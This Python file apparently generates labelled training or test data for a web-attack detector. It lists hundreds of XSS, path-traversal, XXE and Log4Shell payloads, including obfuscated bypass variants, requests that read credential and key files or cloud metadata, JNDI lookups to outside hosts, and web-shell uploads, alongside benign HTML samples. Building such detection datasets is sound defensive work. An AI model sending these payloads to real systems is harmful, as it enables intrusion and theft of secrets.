    A('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "json", 1, param="content"),
    A(
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a>",
        "xml",
        1,
        param="description",
        ep="/api/legacy/comments",
    ),
    A('" autofocus onfocus="alert(1)', "query", 1, param="name"),
]

# ---------------------------------------------------------------- path traversal
CTX["path_traversal"] = dict(
    eps=[
        "/download",
        "/static",
        "/api/v1/files",
        "/view",
        "/image",
        "/export",
        "/docs",
        "/assets",
        "/api/attachments",
        "/report",
    ],
    params=["file", "path", "name", "doc", "template", "img", "filename", "page", "dir", "lang"],
)

TRAV = [
    A("../../../../etc/passwd", "query", param="file", ep="/download"),
    A("..\\..\\..\\windows\\win.ini", "query", param="filename"),
    A("../../../../../var/log/nginx/access.log", "query", param="path"),
    A("../../../WEB-INF/web.xml", "query", param="doc", ep="/view"),
    A("/etc/shadow", "query", param="file", ep="/api/v1/files"),
    A("../../../../proc/self/environ", "json", param="template", ep="/api/v1/render"),
    A("C:\\inetpub\\wwwroot\\web.config", "query", param="name"),
    A("..\\..\\..\\..\\boot.ini", "form", param="file", ep="/export"),
    A("../../app/config/parameters.yml", "path", pre="/static/", ep="/static"),
    A(
        "../../../../home/app/.ssh/authorized_keys",
        "multipart",
        mp="filename",
        field="file",
        fctype="text/plain",
        fcontent="ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFz attacker@box\n",
        ep="/api/attachments",
    ),
    A("../../../../../root/.bash_history", "json", param="path", ep="/api/v1/files/read"),
    A("/proc/self/cwd/config.py", "query", param="file"),
    A("....//....//....//etc/hosts", "query", param="page"),
    A("..\\..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "json", param="filename"),
    A("../../../../../usr/local/etc/php/php.ini", "query", param="template"),
    A("../../.env", "query", param="lang"),
    A("../../../../var/www/html/wp-config.php", "cookie", ck="template", ep="/view"),
    A("../../../../opt/tomcat/conf/tomcat-users.xml", "xml", param="path", ep="/api/legacy/files"),
    A("/var/run/secrets/kubernetes.io/serviceaccount/token", "query", param="path", ep="/api/v1/files"),
    A("../../../.git/config", "path", pre="/assets/", ep="/assets"),
    A("../../../../etc/nginx/nginx.conf", "multipart", mp="field", param="path", ep="/api/v1/files/read"),
    A("C:/Windows/system.ini", "form", param="doc"),
    A("file:///etc/group", "json", param="source", ep="/api/v1/import"),
    A("../../../../../../../../../../etc/issue", "query", param="img", ep="/image"),
    A("../../config/database.yml", "query", param="dir"),
    A("../../../logs/app.log", "json", param="name", deep=2),
    A('query { file(path: "../../../../etc/machine-id") { content } }', "json", ep="/graphql", doc={"query": MARK}),
    A('{"attachment":"../../../../etc/ssl/private/server.key"}', "json", param="meta", ep="/api/attachments"),
    A("../../../../var/lib/mysql/mysql/user.MYD", "query", param="file", ep="/download"),
    A(
        "../../../../var/www/html/shell.jsp",
        "header",
        hdr="X-File-Name",
        method="PUT",
        ep="/api/v1/upload",
        body=("text/plain", "hello"),
    ),
    # ---- hard
    A("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "query", 1, param="file"),
    A("..%c0%af..%c0%af..%c0%afetc/passwd", "json", 1, param="path"),
    A("..%252f..%252f..%252fetc/passwd", "query", 1, param="doc"),
    A("..;/..;/..;/WEB-INF/web.xml", "path", 1, pre="/static/", ep="/static"),
    A("/..;/manager/html", "path", 1, pre="/docs", ep="/docs", raw="/..;/manager/html"),
    A("../../../etc/passwd", "path", 1, pre="/static/", ep="/static", raw=".%2e/.%2e/.%2e/etc/passwd"),
    A(
        "..\\..\\..\\..\\windows\\system32\\config\\sam",
        "path",
        1,
        pre="/assets/",
        ep="/assets",
        raw="..%5c..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam",
    ),
    A("..%u2216..%u2216etc%u2216passwd", "json", 1, param="file"),
    A("\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd", "query", 1, param="name"),
    A("..\u2215..\u2215..\u2215etc\u2215shadow", "json", 1, param="filename"),
    A("../../../etc/passwd\x00.png", "query", 1, param="img", ep="/image"),
    A("....\\/....\\/....\\/etc/passwd", "query", 1, param="page"),
    A("..//..//..//etc//hosts", "form", 1, param="path"),
    A("..\\web.config::$DATA", "query", 1, param="file"),
    A("..\\..\\PROGRA~1\\Apache~1\\conf\\httpd.conf", "query", 1, param="template"),
    A("\\\\?\\C:\\Windows\\win.ini", "json", 1, param="path", deep=3),
    A("..%00/..%00/etc/passwd", "cookie", 1, ck="lang"),
    A("/var/www/images/../../../etc/passwd", "query", 1, param="img", ep="/image"),
    A("..././..././..././etc/passwd", "multipart", 1, mp="field", param="template"),
    A(
        "..\\..\\..\\..\\inetpub\\wwwroot\\cmd.aspx",
        "multipart",
        1,
        mp="filename",
        field="upload",
        fctype="text/plain",
        fcontent='<%@ Page Language="C#" %>\n',
        ep="/api/attachments",
    ),
]

# ---------------------------------------------------------------- xxe
CTX["xxe"] = dict(
    eps=[
        "/api/xml/import",
        "/soap/UserService",
        "/api/v1/orders.xml",
        "/feeds/import",
        "/api/legacy/parse",
        "/xmlrpc.php",
        "/api/invoices/upload",
        "/services/ProductCatalog",
    ],
    params=["xml", "data", "document", "payload", "feed", "content"],
)

_saml = base64.b64encode(
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % e SYSTEM "http://203.0.113.9/saml.dtd"> %e;]>'
    b'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_x" Version="2.0"><samlp:Status/></samlp:Response>'
).decode()
_X = '<?xml version="1.0" encoding="UTF-8"?>\n'

XXE = [
    A(
        _X
        + '<!DOCTYPE order [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<order>\n  <id>1042</id>\n  <note>&xxe;</note>\n</order>\n',
        "xml",
        whole=True,
        ep="/api/v1/orders.xml",
    ),
    A(
        _X
        + '<!DOCTYPE soap:Envelope [<!ENTITY h SYSTEM "file:///etc/hostname">]>\n<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">\n'
        '  <soap:Body>\n    <GetUser xmlns="urn:users">\n      <username>&h;</username>\n    </GetUser>\n  </soap:Body>\n</soap:Envelope>\n',
        "xml",
        whole=True,
        ep="/soap/UserService",
        ctype="text/xml; charset=utf-8",
    ),
    A(
        _X
        + '<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM "http://203.0.113.9/evil.dtd">\n  %remote;\n  %init;\n  %send;\n]>\n<data>4</data>\n',
        "xml",
        whole=True,
    ),
    A(
        '<?xml version="1.0"?>\n<!DOCTYPE invoice SYSTEM "http://198.51.100.7/invoice.dtd">\n<invoice><total>10.00</total></invoice>\n',
        "xml",
        whole=True,
        ep="/api/invoices/upload",
    ),
    A(
        '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="5" y="20">&f;</text></svg>\n',
        "multipart",
        mp="file",
        fname="badge.svg",
        fctype="image/svg+xml",
        field="image",
        ep="/api/v2/avatar",
    ),
    A(
        '<report xmlns:xi="http://www.w3.org/2001/XInclude">\n  <title>Q4</title>\n  <xi:include parse="text" href="file:///etc/passwd"/>\n</report>\n',
        "xml",
        whole=True,
        ep="/api/reports/import",
    ),
    A(
        '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n'
        ' <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n'
        ' <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n'
        ' <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n]>\n<lolz>&lol6;</lolz>\n',
        "xml",
        whole=True,
    ),
    A(
        _X
        + '<!DOCTYPE config [<!ENTITY src SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/config.php">]>\n<config><name>&src;</name></config>\n',
        "xml",
        whole=True,
        ep="/xmlrpc.php",
    ),
    A(_X + '<!DOCTYPE c [<!ENTITY cmd SYSTEM "expect://id">]>\n<c><v>&cmd;</v></c>\n', "xml", whole=True),
    A(
        _X + '<!DOCTYPE x [<!ENTITY j SYSTEM "jar:http://203.0.113.9/a.zip!/payload.txt">]>\n<x>&j;</x>\n',
        "xml",
        whole=True,
        ep="/services/ProductCatalog",
    ),
    A(
        _X + '<!DOCTYPE x [<!ENTITY n SYSTEM "netdoc:/etc/passwd">]>\n<product><sku>&n;</sku></product>\n',
        "xml",
        whole=True,
        ep="/services/ProductCatalog",
    ),
    A(
        _X + '<!DOCTYPE x [<!ENTITY g SYSTEM "gopher://127.0.0.1:25/xHELO%20localhost">]>\n<msg><to>&g;</to></msg>\n',
        "xml",
        whole=True,
    ),
    A(
        _X + '<!DOCTYPE r [<!ENTITY w SYSTEM "file:///c:/windows/win.ini">]>\n<r><item>&w;</item></r>\n',
        "xml",
        whole=True,
    ),
    A(
        _X + '<!DOCTYPE rss [<!ENTITY e SYSTEM "file:///etc/issue">]>\n<rss version="2.0"><channel><title>News</title>'
        "<item><title>&e;</title><link>https://blog.example.net/p/1</link></item></channel></rss>\n",
        "xml",
        whole=True,
        ep="/feeds/import",
    ),
    A(
        _X
        + '<!DOCTYPE xliff [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
        ' <file source-language="en" target-language="de" datatype="plaintext" original="ui.strings">\n  <body>\n'
        '   <trans-unit id="greeting"><source>Hello</source><target>&x;</target></trans-unit>\n  </body>\n </file>\n</xliff>\n',
        "multipart",
        mp="file",
        fname="de.xlf",
        fctype="application/x-xliff+xml",
        field="translations",
        ep="/api/i18n/import",
    ),
    A(
        _X
        + '<!DOCTYPE methodCall [<!ENTITY p SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>&p;</methodName><params/></methodCall>\n',
        "xml",
        whole=True,
        ep="/xmlrpc.php",
        ctype="text/xml",
    ),
    A(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><a>&x;</a></r>',
        "json",
        param="xml",
        ep="/api/v1/convert",
    ),
    A(
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY s SYSTEM "file:///proc/self/environ">]><query><term>&s;</term></query>',
        "form",
        param="xml",
        ep="/api/legacy/parse",
    ),
    A(
        '<!DOCTYPE d [<!ENTITY z SYSTEM "file:///etc/os-release">]><d>&z;</d>',
        "query",
        param="data",
        ep="/api/legacy/parse",
    ),
    A(
        _X
        + '<!DOCTYPE u [<!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/">]>\n<user><bio>&meta;</bio></user>\n',
        "xml",
        whole=True,
    ),
    A(
        _X
        + '<!DOCTYPE kml [<!ENTITY loc SYSTEM "file:///home/app/.aws/credentials">]>\n<kml xmlns="http://www.opengis.net/kml/2.2"><Placemark>'
        "<name>&loc;</name><Point><coordinates>13.4,52.5,0</coordinates></Point></Placemark></kml>\n",
        "multipart",
        mp="file",
        fname="route.kml",
        fctype="application/vnd.google-earth.kml+xml",
        field="track",
        ep="/api/maps/import",
    ),
    A(
        _X
        + '<!DOCTYPE m [\n <!ENTITY % file SYSTEM "file:///etc/hostname">\n <!ENTITY % dtd SYSTEM "http://198.51.100.3/ftp.dtd">\n %dtd;\n]>\n<m>1</m>\n',
        "xml",
        whole=True,
        ep="/soap/UserService",
    ),
    A(
        _X
        + '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://203.0.113.9/docbook.dtd">\n<book><title>Manual</title></book>\n',
        "xml",
        whole=True,
    ),
    A(
        _X
        + '<!DOCTYPE propfind [<!ENTITY f SYSTEM "file:///etc/passwd">]>\n<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&f;</D:displayname></D:prop></D:propfind>\n',
        "xml",
        whole=True,
        method="PROPFIND",
        ep="/webdav/docs/",
    ),
    A(
        _X
        + '<!DOCTYPE urlset [<!ENTITY s SYSTEM "file:///var/www/.htpasswd">]>\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        "<url><loc>&s;</loc></url></urlset>\n",
        "multipart",
        mp="file",
        fname="sitemap.xml",
        fctype="application/xml",
        field="sitemap",
        ep="/admin/seo/sitemap",
    ),
    A(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:template match="/">\n'
        "    <xsl:copy-of select=\"document('/etc/passwd')\"/>\n  </xsl:template>\n</xsl:stylesheet>\n",
        "multipart",
        mp="file",
        fname="transform.xsl",
        fctype="application/xslt+xml",
        field="stylesheet",
        ep="/api/reports/xslt",
    ),
    A(
        _X
        + '<!DOCTYPE note [<!ENTITY k SYSTEM "file:///root/.ssh/id_rsa">]>\n<note><to>ops</to><body>&k;</body></note>\n',
        "xml",
        whole=True,
    ),
    A(
        _X + '<!DOCTYPE p [<!ENTITY i SYSTEM "http://127.0.0.1:8080/manager/text/list">]>\n<p><name>&i;</name></p>\n',
        "xml",
        whole=True,
        ep="/api/xml/import",
    ),
    A(
        _X
        + '<!DOCTYPE cfg [<!ENTITY db SYSTEM "file:///var/www/app/.env">]>\n<settings><theme>dark</theme><footer>&db;</footer></settings>\n',
        "xml",
        whole=True,
        method="PUT",
        ep="/api/v1/settings.xml",
    ),
    A(
        _X
        + '<!DOCTYPE s [<!ENTITY t SYSTEM "file:///etc/shadow">]>\n<Envelope xmlns="http://schemas.xmlsoap.org/soap/envelope/"><Body>'
        '<Search xmlns="urn:catalog"><q>&t;</q></Search></Body></Envelope>\n',
        "xml",
        whole=True,
        ep="/services/ProductCatalog",
        ctype="application/soap+xml; charset=utf-8",
    ),
    # ---- hard
    A(
        _X
        + '<!DOCTYPE e [\n <!ENTITY % file SYSTEM "file:///etc/passwd">\n <!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">\n'
        " %eval;\n %error;\n]>\n<e>1</e>\n",
        "xml",
        1,
        whole=True,
    ),
    A(
        _X + '<!DOCTYPE message [\n <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
        ' <!ENTITY % ISOamso \'\n  <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n  <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">\n'
        "  &#x25;eval;\n  &#x25;error;\n '>\n %local_dtd;\n]>\n<message>x</message>\n",
        "xml",
        1,
        whole=True,
    ),
    A(
        '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE foo +AFs-+ADwAIQ-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-\n+ADw-foo+AD4-+ACY-x;+ADw-/foo+AD4-\n',
        "xml",
        1,
        whole=True,
    ),
    A(
        '<?xml version="1.0"?>\n<!doctype foo [<!entity xxe system "file:///etc/passwd">]>\n<foo>&xxe;</foo>\n',
        "xml",
        1,
        whole=True,
    ),
    A(
        '<?xml version="1.0"?>\n<!DOCTYPE\n\tfoo\n\t[\n\t<!ENTITY\n\t\txxe\n\t\tSYSTEM\n\t\t"file:///etc/group"\n\t>\n\t]\n>\n<foo>\n&xxe;\n</foo>\n',
        "xml",
        1,
        whole=True,
    ),
    A("<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:/etc/passwd'>]><a>&b;</a>", "xml", 1, whole=True),
    A(
        _X + "<!DOCTYPE r [\n <!ENTITY % a \"<!ENTITY b SYSTEM 'file:///etc/hosts'>\">\n %a;\n]>\n<r>&b;</r>\n",
        "xml",
        1,
        whole=True,
    ),
    A(
        _X
        + '<!DOCTYPE d [\n <!ENTITY % start "<![CDATA[">\n <!ENTITY % file SYSTEM "file:///etc/fstab">\n <!ENTITY % end "]]>">\n'
        ' <!ENTITY % dtd SYSTEM "http://203.0.113.9/join.dtd">\n %dtd;\n]>\n<d>&all;</d>\n',
        "xml",
        1,
        whole=True,
    ),
    A(_saml, "form", 1, ep="/saml/acs", fields=[("SAMLResponse", MARK), ("RelayState", "/dashboard")]),
    A(
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><v>&x;</v></r>\n',
        "json",
        1,
        param="document",
        jhtml=True,
        ep="/api/v1/convert",
    ),
    A(
        '<doc xmlns:a="http://www.w3.org/2001/XInclude">\n <a:include href="file:///etc/shadow" parse="text"><a:fallback>none</a:fallback></a:include>\n</doc>\n',
        "xml",
        1,
        whole=True,
        ep="/api/reports/import",
    ),
    A(
        '<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY % p SYSTEM "http://198.51.100.40/svg.dtd"> %p; ]>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&leak;</text></svg>\n',
        "multipart",
        1,
        mp="file",
        fname="photo.png",
        fctype="image/png",
        field="photo",
        ep="/api/v2/avatar",
    ),
    A(
        _X
        + '<!DOCTYPE c [<!ENTITY s SYSTEM "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env">]>\n<c><n>&s;</n></c>\n',
        "xml",
        1,
        whole=True,
        ep="/xmlrpc.php",
    ),
    A(
        _X
        + '<!DOCTYPE donn\u00e9es [<!ENTITY donn\u00e9e SYSTEM "file:///etc/passwd">]>\n<donn\u00e9es>&donn\u00e9e;</donn\u00e9es>\n',
        "xml",
        1,
        whole=True,
    ),
    A(
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY r SYSTEM "file:///etc/resolv.conf">]><q>&r;</q>',
        "query",
        1,
        param="xml",
        ep="/api/legacy/parse",
    ),
    A(
        '<?xml version="1.0"?>\n<?xml-stylesheet href="http://203.0.113.9/x.xsl" type="text/xsl"?>\n<catalog><item>1</item></catalog>\n',
        "xml",
        1,
        whole=True,
        ep="/feeds/import",
    ),
    A(
        '<?xml version="1.0"?>\n<order xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:orders http://203.0.113.9/orders.xsd">'
        "<id>7</id></order>\n",
        "xml",
        1,
        whole=True,
        ep="/api/v1/orders.xml",
    ),
    A(_X + '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://[::ffff:cb00:710a]/e.dtd">%a;]>\n<x/>\n', "xml", 1, whole=True),
    A(_X + '<!DOCTYPE q [<!ENTITY a "' + "A" * 400 + '">]>\n<q>' + "&a;" * 120 + "</q>\n", "xml", 1, whole=True),
    A(
        '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE b [<!ENTITY c SYSTEM "file:///proc/self/cmdline">]>\n<b>&c;</b>\n',
        "xml",
        1,
        whole=True,
    ),
]

# ---------------------------------------------------------------- log4shell
CTX["log4shell"] = dict(
    eps=[
        "/",
        "/login",
        "/api/v1/search",
        "/products",
        "/api/auth/token",
        "/solr/admin/cores",
        "/websso/SAML2/SSO",
        "/api/v2/events",
        "/jira/secure/Dashboard.jspa",
        "/status",
    ],
    params=["q", "username", "search", "id", "action", "lang", "event", "name"],
)

L4J = [
    A("${jndi:ldap://203.0.113.10:1389/a}", "header", hdr="User-Agent"),
    A("${jndi:ldap://198.51.100.22/Exploit}", "header", hdr="X-Api-Version"),
    A("${jndi:rmi://203.0.113.15:1099/obj}", "header", hdr="Referer"),
    A("${jndi:dns://x1.oast.example/probe}", "header", hdr="X-Forwarded-For"),
    A("${jndi:ldaps://log.attacker.example/b}", "query", param="q"),
    A("${jndi:iiop://198.51.100.8:900/c}", "json", param="username", ep="/api/auth/token"),
    A("${jndi:corba://203.0.113.2/d}", "form", param="username", ep="/login"),
    A("${jndi:nds://198.51.100.3/e}", "cookie", ck="JSESSIONID"),
    A("${jndi:nis://203.0.113.30/f}", "header", hdr="X-Client-IP"),
    A("${jndi:http://198.51.100.99/g}", "header", hdr="True-Client-IP"),
    A("${jndi:ldap://${env:USER}.u.oast.example/x}", "query", param="search"),
    A("${jndi:dns://${hostName}.h.oast.example}", "header", hdr="Accept-Language"),
    A("${jndi:ldap://203.0.113.10:1389/${sys:java.version}}", "json", param="event", ep="/api/v2/events"),
    A("${env:AWS_SECRET_ACCESS_KEY}", "json", param="name", deep=2),
    A("${sys:user.home}", "query", param="lang"),
    A("${jndi:ldap://127.0.0.1#evil.example:1389/a}", "header", hdr="X-Forwarded-Host"),
    A("${ctx:loginId}", "form", param="username", ep="/login"),
    A("Bearer ${jndi:ldap://198.51.100.5/auth}", "header", hdr="Authorization", ep="/api/v1/search"),
    A("${jndi:ldap://203.0.113.10/wap}", "header", hdr="X-Wap-Profile"),
    A("${jndi:ldap://198.51.100.31:1389/mp}", "multipart", mp="field", param="comment", ep="/api/v2/feedback"),
    A("${jndi:rmi://203.0.113.41/xml}", "xml", param="username", ep="/websso/SAML2/SSO"),
    A("${jndi:ldap://198.51.100.44/key}", "json_key", deep=3, ep="/api/v2/events"),
    A("${jndi:ldap://203.0.113.45/qk}", "query_key", kval="1"),
    A("${jndi:ldap://198.51.100.46/path}", "path", pre="/products/", ep="/products"),
    A("${jndi:ldap://[2001:db8::10]:1389/v6}", "query", param="id"),
    A("${java:version}", "header", hdr="X-Request-ID"),
    A("${jndi:ldap://x${hostName}.L4J.oast.example/a}", "header", hdr="Origin"),
    A("${jndi:ldap://203.0.113.55/ifmod}", "header", hdr="If-Modified-Since"),
    A(
        "${jndi:rmi://198.51.100.101:1099/Calc}",
        "json",
        ep="/graphql",
        doc={"query": "query Search($term: String!) { search(term: $term) { id title } }", "variables": {"term": MARK}},
    ),
    A("${jndi:ldap://203.0.113.70/ck}", "cookie", ck="remember_user"),
    # ---- hard
    A("${${lower:j}ndi:${lower:l}dap://203.0.113.10/h1}", "header", 1, hdr="User-Agent"),
    A("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.2/h2}", "header", 1, hdr="X-Api-Version"),
    A("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.4/h3}", "query", 1, param="q"),
    A("${jndi:${lower:l}${lower:d}a${lower:p}://x.oast.example/h4}", "json", 1, param="username", ep="/api/auth/token"),
    A("${${upper:j}${upper:n}di:ldap://203.0.113.5/h5}", "header", 1, hdr="Referer"),
    A("${j${k8s:k5:-ND}i:ldap://198.51.100.6/h6}", "form", 1, param="username"),
    A("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.7/h7}", "header", 1, hdr="X-Forwarded-For"),
    A("${${sys:sun.cpu.isalist:-j}ndi:ldap://198.51.100.8/h8}", "cookie", 1, ck="lang"),
    A("%24%7Bjndi:ldap://203.0.113.9/h9%7D", "query", 1, param="search"),
    A("${jnd${upper:\u0131}:ldap://198.51.100.10/h10}", "json", 1, param="event"),
    A("${${::-${::-$}}{::-j}ndi:ldap://198.51.100.12/h12}", "header", 1, hdr="X-Client-IP"),
    A("${jndi:ldap://0xcb00710e:1389/h13}", "query", 1, param="id"),
    A("${jndi:ldap://203.0.113.14/h14}", "json", 1, param="message", rjrep=[("${jndi", "\\u0024\\u007bjndi")]),
    A("${jn${::-}di:ldap://198.51.100.16/h16}", "header", 1, hdr="Authorization"),
    A("${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.17/h17}", "multipart", 1, mp="field", param="name"),
    A("${${upper:${::-j}}ndi:dns://h18.oast.example}", "header", 1, hdr="Contact"),
    A("${jndi:${::-l}${::-d}${::-a}${::-p}s://198.51.100.19/h19}", "xml", 1, param="search", ep="/websso/SAML2/SSO"),
    A(
        "${jndi:ldap://${sys:os.name:-x}.${env:USERDOMAIN:-y}.h20.oast.example/a}",
        "json_key",
        1,
        ep="/api/v2/events",
        doc={"events": [{"type": "click", "props": {KMARK: "v"}}]},
    ),
    A("${${bundle:application:-j}ndi:ldap://203.0.113.21/h21}", "query_key", 1, kval=""),
    A("$\\{jndi:ldap://198.51.100.22/h22\\}", "header", 1, hdr="X-Forwarded-Proto"),
]

ATTACKS = {
    "java_injection": JAVA,
    "php_injection": PHP,
    "code_injection": CODE,
    "rfi": RFI,
    "ssrf": SSRF,
    "rce": RCE,
    "sqli": SQLI,
    "nosqli": NOSQLI,
    "ldapi": LDAPI,
    "ssti": SSTI,
    "crlf": CRLF,
    "mail_injection": MAIL,
    "xss": XSS,
    "path_traversal": TRAV,
    "xxe": XXE,
    "log4shell": L4J,
}


# --------------------------------------------------------------------------
# benign specifications
# --------------------------------------------------------------------------
def B(p, pl, **o):
    return {"p": p, "pl": pl, "h": False, "o": o}


SENTENCES = [
    "Thanks for the quick turnaround on the invoice.",
    "The new onboarding flow is live for all EU customers.",
    "Please review the attached draft before Friday.",
    "We moved the stand-up to 9:30 starting next week.",
    "Our warehouse in Rotterdam will be closed on the 24th.",
    "Shipping times are currently 3 to 5 business days.",
    "I have updated the pricing table with the new tiers.",
    "The workshop recording is now available to attendees.",
    "Remember to rotate your API keys every 90 days.",
    "Customer satisfaction went up 4 points this quarter.",
    "The venue has step-free access and a lift to every floor.",
    "Lunch will be provided, vegetarian options included.",
    "We are hiring two backend engineers in Lisbon.",
    "The beta will run until the end of January.",
    "Feel free to reply to this thread with questions.",
    "Our support hours are 8am to 6pm CET, Monday to Friday.",
    "The recipe works just as well with oat milk.",
    "Bring a reusable water bottle, there are refill stations.",
    "Version 4.2 fixes the export bug reported last month.",
    "All sessions will be recorded and captioned.",
    "Parking is free after 6pm in the north garage.",
    "The quarterly report is attached as a PDF.",
    "We switched the newsletter to a monthly schedule.",
    "Tickets are non-refundable but can be transferred.",
    "Don't forget to water the tomatoes twice a day in July.",
    "The library extends loan periods during exam season.",
    "Our team volunteered 120 hours at the food bank this year.",
    "The maintenance window starts at 02:00 UTC.",
    "Please use the side entrance during the renovation.",
    "This release drops support for Internet Explorer 11.",
    "The community garden plots are assigned by lottery.",
    "Refunds are processed within 10 working days.",
]
TITLES = [
    "Release notes",
    "Weekly update",
    "Event details",
    "Getting started",
    "Team news",
    "Holiday hours",
    "FAQ",
    "Product roadmap",
    "Meeting minutes",
    "Volunteer schedule",
    "Travel tips",
    "Known issues",
]
LINKS = [
    ("https://docs.example.com/setup", "setup guide"),
    ("https://status.example.net/", "status page"),
    ("https://www.example.org/events/2026/winter-meetup", "event page"),
    ("/help/articles/412", "help article"),
    ("https://blog.example.net/posts/year-in-review", "year in review"),
    ("mailto:support@example.com", "support@example.com"),
    ("https://maps.example.com/?q=52.3676,4.9041", "map"),
    ("https://shop.example.com/collections/winter?sort=price-asc", "winter collection"),
]


def gen_richtext():
    H, N = [], []
    for i in range(90):
        s1, s2, s3 = R.sample(SENTENCES, 3)
        f = i % 9
        if f == 0:
            html = "<p>%s</p><p>%s</p>" % (s1, s2)
        elif f == 1:
            w = s2.split()
            k = R.randint(1, len(w) - 2)
            html = "<p>%s %s <strong>%s</strong> %s</p>" % (s1, " ".join(w[:k]), w[k], " ".join(w[k + 1 :]))
        elif f == 2:
            html = "<h2>%s</h2><p>%s %s</p>" % (R.choice(TITLES), s1, s2)
        elif f == 3:
            html = "<ul><li>%s</li><li>%s</li><li>%s</li></ul>" % (s1, s2, s3)
        elif f == 4:
            u, l = R.choice(LINKS)
            html = '<p>%s See the <a href="%s" target="_blank" rel="noopener noreferrer">%s</a>.</p>' % (s1, u, l)
        elif f == 5:
            html = "<blockquote><p>%s</p></blockquote><p>%s</p>" % (s1, s2)
        elif f == 6:
            html = "<p><em>%s</em></p><ol><li>%s</li><li>%s</li></ol>" % (s1, s2, s3)
        elif f == 7:
            html = "<p>%s<br>%s</p><p>&nbsp;</p><p>%s</p>" % (s1, s2, s3)
        else:
            html = '<p><span style="color: rgb(%d, %d, %d);">%s</span> %s</p>' % (
                R.randint(0, 200),
                R.randint(0, 200),
                R.randint(0, 200),
                s1,
                s2,
            )
        N.append(html)
    H += [
        "<p>Move the <code>&lt;script&gt;</code> tag to the end of <code>&lt;body&gt;</code> so the page renders first.</p>",
        "<p>To check totals run <code>SELECT customer_id, SUM(amount) FROM payments GROUP BY customer_id;</code> in the read replica.</p>",
        '<p><img src="/uploads/2026/11/team-offsite.jpg" alt="Team photo at the offsite" width="640" height="427"></p><p>What a week!</p>',
        '<p><iframe src="https://www.youtube-nocookie.com/embed/aqz-KE-bpKQ" width="560" height="315" frameborder="0" allowfullscreen="allowfullscreen"></iframe></p>',
        "<p>Prices start at &lt; &euro;20 &amp; shipping is free over &euro;50.</p>",
        "<table><thead><tr><th>Plan</th><th>Seats</th><th>Price</th></tr></thead><tbody><tr><td>Team</td><td>10</td><td>$99</td></tr><tr><td>Business</td><td>50</td><td>$399</td></tr></tbody></table>",
        '<p data-block-id="b7f3c2" class="ql-align-center">Welcome aboard, <span class="mention" data-id="8812" data-value="Priya">@Priya</span>!</p>',
        "<p>The <code>onerror</code> handler on the image fallback was removed in v3; use the <code>fallbackSrc</code> prop instead.</p>",
        '<pre><code class="language-js">document.querySelector("#save").addEventListener("click", save);</code></pre>',
        "<p>Press <kbd>Ctrl</kbd> + <kbd>Alt</kbd> + <kbd>Del</kbd> and choose <em>Task Manager</em>.</p>",
